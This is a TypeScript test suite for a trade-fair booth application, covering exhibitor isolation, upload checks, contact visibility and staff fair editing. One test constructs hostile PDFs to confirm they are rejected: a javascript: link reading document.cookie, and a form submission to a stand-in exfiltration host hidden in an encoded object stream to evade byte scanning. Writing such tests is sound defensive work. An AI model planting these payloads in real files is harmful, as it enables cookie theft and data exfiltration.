// Exhibitors build booths; nobody else can touch them. Uploads are checked by content.
import { mkdtempSync, readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { config, configure } from "../../app/config.server.ts";
import { db } from "../../app/db/client.server.ts";
import * as apply from "../../app/routes/fairs.$slug_.apply.tsx";
import * as boothPage from "../../app/routes/booths.$id.tsx";
import * as builder from "../../app/routes/booths.$id_.edit.tsx";
import * as staffFair from "../../app/routes/staff.fairs.$id.tsx";
import { useTestDatabase } from "../harness/db.ts";
import { call, makeBooth, makeFair, makeUser, req, fairFormFields, giveMeetingDay } from "../harness/factories.ts";
import { getUser } from "../../app/auth/session.server.ts";
import { meetingOptionsForBooth } from "../../app/domain/meetings/requests.server.ts";
import { serverTranslator } from "../../app/i18n/all-catalogs.server.ts";

// Field errors come back already translated (ADR 018).
const inZh = serverTranslator("zh-CN");

function multipart(
  path: string,
  cookie: string,
  fields: Record<string, string>,
  file?: { field: string; name: string; type: string; bytes: Buffer },
) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.set(k, v);
  if (file) form.set(file.field, new File([new Uint8Array(file.bytes)], file.name, { type: file.type }));
  return new Request(`http://localhost${path}`, { method: "POST", headers: { Cookie: cookie }, body: form });
}

describe("booth building and curation", () => {
  let fair: Awaited<ReturnType<typeof makeFair>>;
  let a: Awaited<ReturnType<typeof makeUser>>;
  let b: Awaited<ReturnType<typeof makeUser>>;
  let draftB: { id: string };
  let png: Buffer;

  beforeAll(async () => {
    await useTestDatabase();
    configure({ MEDIA_DIR: mkdtempSync(path.join(tmpdir(), "cf-media-")) });
    fair = await makeFair();
    [a, b] = await Promise.all([makeUser("EXHIBITOR"), makeUser("EXHIBITOR")]);
    draftB = await makeBooth(fair, b.organizationId!, "DRAFT");
    png = await sharp({ create: { width: 800, height: 400, channels: 3, background: "#1d5fd1" } })
      .png()
      .toBuffer();
  });

  it("lets an exhibitor apply once per fair, freezing the tier's fee on the booth", async () => {
    const form = { hallId: fair.halls[0].id, tierId: fair.tiers[1].id };
    const res = await call(apply.action, req(`/fairs/${fair.slug}/apply`, { cookie: a.cookie, form }), {
      slug: fair.slug,
    });
    expect(res.status).toBe(302);
    const booth = await db().booth.findFirstOrThrow({ where: { organizationId: a.organizationId! } });
    expect(res.headers.get("Location")).toBe(`/booths/${booth.id}/edit`);
    expect(booth).toMatchObject({ status: "DRAFT", feeAmount: 500_000, paymentStatus: "UNPAID", isPublic: false });
    const again = await call(apply.action, req(`/fairs/${fair.slug}/apply`, { cookie: a.cookie, form }), {
      slug: fair.slug,
    });
    expect(again.status).toBe(409);
    expect((await again.json()).formError).toBe("您的机构已在该展会申请了展位。");
  });

  it("keeps exhibitor A out of B's draft booth: page, builder, projects, contacts and uploads", async () => {
    expect(
      (await call(boothPage.loader, req(`/booths/${draftB.id}`, { cookie: a.cookie }), { id: draftB.id })).status,
    ).toBe(404);
    expect(
      (await call(builder.loader, req(`/booths/${draftB.id}/edit`, { cookie: a.cookie }), { id: draftB.id })).status,
    ).toBe(403);
    const before = await db().booth.findUniqueOrThrow({
      where: { id: draftB.id },
      include: { projects: true, contacts: true, media: true },
    });
    const attempts: Record<string, string>[] = [
      { intent: "details", descriptionZh: "x", descriptionEn: "x" },
      {
        intent: "project-save",
        titleZh: "恶意",
        titleEn: "Evil",
        sector: "biomedicine",
        stage: "SEED",
        region: "suzhou",
        amount: "1",
        currency: "CNY",
      },
      { intent: "project-delete", id: before.projects[0].id },
      { intent: "contact-add", name: "Mallory" },
      { intent: "contact-delete", id: before.contacts[0].id },
      { intent: "submit" },
    ];
    for (const form of attempts) {
      const res = await call(builder.action, req(`/booths/${draftB.id}/edit`, { cookie: a.cookie, form }), {
        id: draftB.id,
      });
      expect(res.status, form.intent).toBe(403);
    }
    const upload = await call(
      builder.action,
      multipart(
        `/booths/${draftB.id}/edit`,
        a.cookie,
        { intent: "banner" },
        { field: "banner", name: "b.png", type: "image/png", bytes: png },
      ),
      { id: draftB.id },
    );
    expect(upload.status).toBe(403);
    const after = await db().booth.findUniqueOrThrow({
      where: { id: draftB.id },
      include: { projects: true, contacts: true, media: true },
    });
    expect(after).toEqual(before);
    // Project ids of another booth cannot be reached through one's own booth either.
    const own = await db().booth.findFirstOrThrow({ where: { organizationId: a.organizationId! } });
    const viaOwn = await call(
      builder.action,
      req(`/booths/${own.id}/edit`, {
        cookie: a.cookie,
        form: { intent: "project-delete", id: before.projects[0].id },
      }),
      { id: own.id },
    );
    expect(viaOwn.status).toBe(404);
    expect(await db().project.count({ where: { id: before.projects[0].id } })).toBe(1);
  });

  it("builds a booth: details, banner upload re-encoded to WebP, project with PDF, contact; then submits", async () => {
    const booth = await db().booth.findFirstOrThrow({ where: { organizationId: a.organizationId! } });
    const url = `/booths/${booth.id}/edit`;
    const submitEarly = await call(builder.action, req(url, { cookie: a.cookie, form: { intent: "submit" } }), {
      id: booth.id,
    });
    expect(submitEarly.status).toBe(400);
    expect((await submitEarly.json()).formError).toBe("请先填写展位介绍再提交审核。");
    expect(
      (
        await call(
          builder.action,
          req(url, {
            cookie: a.cookie,
            form: {
              intent: "details",
              descriptionZh: "专注细胞治疗",
              descriptionEn: "Cell therapy",
              videoUrl: "https://video.example.cn/a",
            },
          }),
          { id: booth.id },
        )
      ).status,
    ).toBe(302);
    const banner = await call(
      builder.action,
      multipart(
        url,
        a.cookie,
        { intent: "banner" },
        { field: "banner", name: "banner.png", type: "image/png", bytes: png },
      ),
      { id: booth.id },
    );
    expect(banner.status).toBe(302);
    const withBanner = await db().booth.findUniqueOrThrow({ where: { id: booth.id } });
    expect(withBanner.bannerKey).toMatch(new RegExp(`^booths/${booth.id}/[0-9a-f]{16}\\.webp$`));
    const project = await call(
      builder.action,
      req(url, {
        cookie: a.cookie,
        form: {
          intent: "project-save",
          titleZh: "CAR-T 产业化",
          titleEn: "CAR-T scale-up",
          sector: "biomedicine",
          stage: "SERIES_A",
          region: "suzhou",
          amount: "20000000",
          currency: "CNY",
        },
      }),
      { id: booth.id },
    );
    expect(project.status).toBe(302);
    const p = await db().project.findFirstOrThrow({ where: { boothId: booth.id } });
    expect(p.amountSought).toBe(2_000_000_000n);
    const pdf = Buffer.from(
      "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    );
    const att = await call(
      builder.action,
      multipart(
        url,
        a.cookie,
        { intent: "attachment-add", id: p.id },
        { field: "file", name: "deck.pdf", type: "application/pdf", bytes: pdf },
      ),
      { id: booth.id },
    );
    expect(att.status).toBe(302);
    expect(await db().projectAttachment.findFirst({ where: { projectId: p.id } })).toMatchObject({
      originalName: "deck.pdf",
    });
    expect(
      (
        await call(
          builder.action,
          req(url, {
            cookie: a.cookie,
            form: { intent: "contact-add", name: "王经理", email: "wang@example.cn", phone: "+86 512 1234567" },
          }),
          { id: booth.id },
        )
      ).status,
    ).toBe(302);
    expect(
      (await call(builder.action, req(url, { cookie: a.cookie, form: { intent: "submit" } }), { id: booth.id })).status,
    ).toBe(302);
    expect((await db().booth.findUniqueOrThrow({ where: { id: booth.id } })).status).toBe("SUBMITTED");
    expect(await db().auditLog.count({ where: { entityId: booth.id, actorId: a.user.id } })).toBeGreaterThanOrEqual(6);
  });

  it("rejects a PNG renamed .pdf, an oversize image and a non-image named .jpg, with localized messages and nothing stored", async () => {
    const booth = await db().booth.findFirstOrThrow({
      where: { organizationId: a.organizationId! },
      include: { projects: true },
    });
    const url = `/booths/${booth.id}/edit`;
    const cases: {
      fields: Record<string, string>;
      file: { field: string; name: string; type: string; bytes: Buffer };
      message: string;
    }[] = [
      {
        fields: { intent: "attachment-add", id: booth.projects[0].id },
        file: { field: "file", name: "deck.pdf", type: "application/pdf", bytes: png },
        message: "文件内容与其扩展名或类型不符（例如把图片改名为 .pdf），请上传真实的文件。",
      },
      {
        fields: { intent: "gallery-add" },
        file: {
          field: "image",
          name: "big.png",
          type: "image/png",
          bytes: Buffer.concat([png, Buffer.alloc(10 * 1024 * 1024)]),
        },
        message: "文件过大：最大 10 MB。",
      },
      {
        fields: { intent: "gallery-add" },
        file: {
          field: "image",
          name: "photo.jpg",
          type: "image/jpeg",
          bytes: Buffer.from("just some text, not a picture\n".repeat(20)),
        },
        message: "文件内容与其扩展名或类型不符（例如把图片改名为 .pdf），请上传真实的文件。",
      },
    ];
    for (const c of cases) {
      const res = await call(builder.action, multipart(url, a.cookie, c.fields, c.file), { id: booth.id });
      expect(res.status, c.file.name).toBeGreaterThanOrEqual(400);
      expect(res.status, c.file.name).toBeLessThan(500);
      const body = await res.json();
      expect(body.formError, c.file.name).toBe(c.message);
      expect(body.intent).toBe(c.fields.intent);
    }
    expect(await db().boothMedia.count({ where: { boothId: booth.id } })).toBe(0);
    expect(await db().projectAttachment.count({ where: { projectId: booth.projects[0].id } })).toBe(1);
  });

  it("refuses PDFs with active content through the builder's upload: localized message, nothing stored", async () => {
    const booth = await db().booth.findFirstOrThrow({
      where: { organizationId: a.organizationId! },
      include: { projects: true },
    });
    const url = `/booths/${booth.id}/edit`;
    const docs = path.join(config().MEDIA_DIR, "booths", booth.id, "docs");
    const stored = () => readdirSync(docs).sort();
    const before = stored();
    const attachments = await db().projectAttachment.count({ where: { projectId: booth.projects[0].id } });
    // A link to javascript:, and a form submission hidden in a predictor-encoded object stream
    // behind a comment (both passed the old byte scan).
    const objects = "6 0 ";
    const action = "<< /S /SubmitForm /F (https://evil.example/collect) >>";
    const rows: Buffer[] = [];
    const plain = Buffer.from(objects + action, "latin1");
    for (let at = 0; at < plain.length; at += 4) rows.push(Buffer.from([0]), plain.subarray(at, at + 4));
    const objStm = deflateSync(Buffer.concat(rows));
    const hostile = [
      Buffer.from(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
          "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 20]" +
          "/A<</S/URI/URI( JavaScript:alert\\(document.cookie\\))>>>>]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
      ),
      Buffer.concat([
        Buffer.from(
          `%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n` +
            `4 0 obj<</Type/ObjStm/N 1/First ${objects.length}/Filter/FlateDecode/DecodeParms<</Predictor 10/Columns 4>>` +
            `/Length ${objStm.length}>> % comment\nstream\n`,
          "latin1",
        ),
        objStm,
        Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
      ]),
    ];
    for (const [i, bytes] of hostile.entries()) {
      const res = await call(
        builder.action,
        multipart(
          url,
          a.cookie,
          { intent: "attachment-add", id: booth.projects[0].id },
          { field: "file", name: `deck-${i}.pdf`, type: "application/pdf", bytes },
        ),
        { id: booth.id },
      );
      expect(res.status, `file ${i}`).toBe(400);
      expect((await res.json()).formError, `file ${i}`).toBe(
        `该 PDF 含有脚本、表单提交、嵌入文件或非网页链接等动作（${i === 0 ? "URI" : "SubmitForm"}），出于安全原因不能上传。请用“打印为 PDF”重新导出后上传。`,
      );
    }
    expect(await db().projectAttachment.count({ where: { projectId: booth.projects[0].id } })).toBe(attachments);
    expect(stored()).toEqual(before);
  });

  it("shows team contacts to the booth's team and to investors the exhibitor met, never to visitors or anonymous users", async () => {
    // Issue 14: any investor account used to see every booth's contacts. The full rule: contacts.test.ts.
    const pub = await makeBooth(fair, (await makeUser("EXHIBITOR")).organizationId!, "APPROVED");
    const [investor, visitor] = await Promise.all([makeUser("INVESTOR"), makeUser("VISITOR")]);
    const view = async (cookie?: string) =>
      (await (await call(boothPage.loader, req(`/booths/${pub.id}`, { cookie }), { id: pub.id })).json()).booth
        .contacts;
    expect(await view(investor.cookie)).toBeNull();
    await db().meeting.create({
      data: {
        fairId: fair.id,
        investorOrgId: investor.organizationId!,
        exhibitorOrgId: pub.organizationId,
        startsAt: new Date("2026-12-08T02:00:00Z"),
        endsAt: new Date("2026-12-08T02:20:00Z"),
      },
    });
    expect(await view(investor.cookie)).toEqual([
      expect.objectContaining({ name: "张经理", email: "zhang@booth.example.cn" }),
    ]);
    expect(await view(visitor.cookie)).toBeNull();
    expect(await view()).toBeNull();
  });

  it("records visits (deduplicated per visitor) and bookmarks of public booths only", async () => {
    const pub = await makeBooth(fair, (await makeUser("EXHIBITOR")).organizationId!, "APPROVED");
    const investor = await makeUser("INVESTOR");
    for (let i = 0; i < 3; i++)
      await call(boothPage.loader, req(`/booths/${pub.id}`, { cookie: investor.cookie }), { id: pub.id });
    const anon = await call(boothPage.loader, req(`/booths/${pub.id}`), { id: pub.id });
    expect(anon.headers.get("Set-Cookie")).toMatch(/^cf_vid=/);
    expect(await db().boothVisit.count({ where: { boothId: pub.id } })).toBe(2);
    expect(
      (
        await call(boothPage.action, req(`/booths/${pub.id}`, { cookie: investor.cookie, form: { bookmark: "on" } }), {
          id: pub.id,
        })
      ).status,
    ).toBe(200);
    expect(await db().bookmark.count({ where: { boothId: pub.id, userId: investor.user.id } })).toBe(1);
    expect(
      (
        await call(
          boothPage.action,
          req(`/booths/${draftB.id}`, { cookie: investor.cookie, form: { bookmark: "on" } }),
          { id: draftB.id },
        )
      ).status,
    ).toBe(404);
    expect(
      (await call(boothPage.action, req(`/booths/${pub.id}`, { form: { bookmark: "on" } }), { id: pub.id })).status,
    ).toBe(302);
  });

  it("gives a signed-in investor the page's meeting options, bookmark and conversation from fewer reads", async () => {
    const ownFair = await makeFair();
    await giveMeetingDay(ownFair, new Date(Date.now() + 5 * 864e5).toISOString().slice(0, 10));
    const exhibitor = await makeUser("EXHIBITOR");
    const pub = await makeBooth(ownFair, exhibitor.organizationId!, "APPROVED");
    for (const [i, title] of ["乙 B", "甲 A"].entries())
      await db().project.create({
        data: {
          boothId: pub.id,
          organizationId: exhibitor.organizationId!,
          titleZh: title,
          titleEn: title,
          sector: "energy",
          stage: "SEED",
          amountSought: 1000n + BigInt(i),
          region: "Jiangsu",
          createdAt: new Date(Date.UTC(2026, 0, 1 + i)),
        },
      });
    const investor = await makeUser("INVESTOR");
    const page = async (cookie?: string) =>
      (await call(boothPage.loader, req(`/booths/${pub.id}`, cookie ? { cookie } : {}), { id: pub.id })).json();
    const first = await page(investor.cookie);
    // The options the page shows are what the request action checks against (its own read).
    const user = (await getUser(req("/", { cookie: investor.cookie })))!;
    expect(first.meeting).toEqual(await meetingOptionsForBooth(user, pub.id));
    expect(first.meeting.slots.length).toBeGreaterThan(0);
    // In the booth page's order (created first, first).
    expect(first.meeting.projects.map((p: { id: string }) => p.id)).toEqual(
      (await db().project.findMany({ where: { boothId: pub.id }, orderBy: { createdAt: "asc" } })).map((p) => p.id),
    );
    expect(first.meeting.projects.slice(0, 2).map((p: { titleEn: string }) => p.titleEn)).toEqual(["乙 B", "甲 A"]);
    expect(first).toMatchObject({ bookmarked: false, chat: { threadId: null, messages: [], hasMore: false } });
    await db().bookmark.create({ data: { userId: investor.user.id, boothId: pub.id } });
    const thread = await db().chatThread.create({ data: { boothId: pub.id, visitorUserId: investor.user.id } });
    expect(await page(investor.cookie)).toMatchObject({ bookmarked: true, chat: { threadId: thread.id } });
    // Another investor sees neither; the booth's own team gets no options, bookmark or conversation.
    expect(await page((await makeUser("INVESTOR")).cookie)).toMatchObject({
      bookmarked: false,
      chat: { threadId: null },
    });
    expect(await page(exhibitor.cookie)).toMatchObject({ bookmarked: false, meeting: null, chat: { threadId: null } });
    expect(await page()).toMatchObject({ bookmarked: false, meeting: null, signedIn: false });
    // Not public (booth hidden): no options, as the action's read says too.
    await db().booth.update({ where: { id: pub.id }, data: { isPublic: false } });
    expect(await meetingOptionsForBooth(user, pub.id)).toBeNull();
    expect((await page(exhibitor.cookie)).meeting).toBeNull();
  });

  it("lets staff edit a fair in its own time zone, refusing bad input with field errors", async () => {
    const staff = await makeUser("STAFF", fair.organizerId); // staff of the bureau organizing the fair
    const base = {
      intent: "fair",
      ...fairFormFields(fair.slug),
      applicationDeadline: "",
    };
    const ok = await call(staffFair.action, req(`/staff/fairs/${fair.id}`, { cookie: staff.cookie, form: base }), {
      id: fair.id,
    });
    expect(ok.status).toBe(302);
    expect((await db().fair.findUniqueOrThrow({ where: { id: fair.id } })).startsAt.toISOString()).toBe(
      "2026-12-08T01:00:00.000Z",
    );
    const withSlots = await call(
      staffFair.action,
      req(`/staff/fairs/${fair.id}`, {
        cookie: staff.cookie,
        form: {
          ...base,
          meetingDays: "2026-12-09， 2026-12-08,2026-12-09",
          sessionStart: "09:30",
          sessionEnd: "12:00",
          slotMinutes: "30",
        },
      }),
      { id: fair.id },
    );
    expect(withSlots.status).toBe(302);
    expect(await db().fair.findUniqueOrThrow({ where: { id: fair.id } })).toMatchObject({
      meetingDays: ["2026-12-08", "2026-12-09"],
      sessionStart: "09:30",
      slotMinutes: 30,
    });
    const badSlots = await call(
      staffFair.action,
      req(`/staff/fairs/${fair.id}`, {
        cookie: staff.cookie,
        form: { ...base, meetingDays: "next tuesday", slotMinutes: "5" },
      }),
      { id: fair.id },
    );
    expect((await badSlots.json()).errors).toMatchObject({
      meetingDays: inZh("staff.error.meetingDays"),
      slotMinutes: inZh("staff.error.slotMinutes"),
    });
    const bad = await call(
      staffFair.action,
      req(`/staff/fairs/${fair.id}`, {
        cookie: staff.cookie,
        form: { ...base, endsAt: "2026-12-01T09:00", timeZone: "Mars/Base" },
      }),
      { id: fair.id },
    );
    expect(bad.status).toBe(400);
    expect((await bad.json()).errors).toMatchObject({ timeZone: inZh("staff.error.timeZone") });
    const asExhibitor = await call(staffFair.action, req(`/staff/fairs/${fair.id}`, { cookie: a.cookie, form: base }), {
      id: fair.id,
    });
    expect(asExhibitor.status).toBe(403);
  });
});
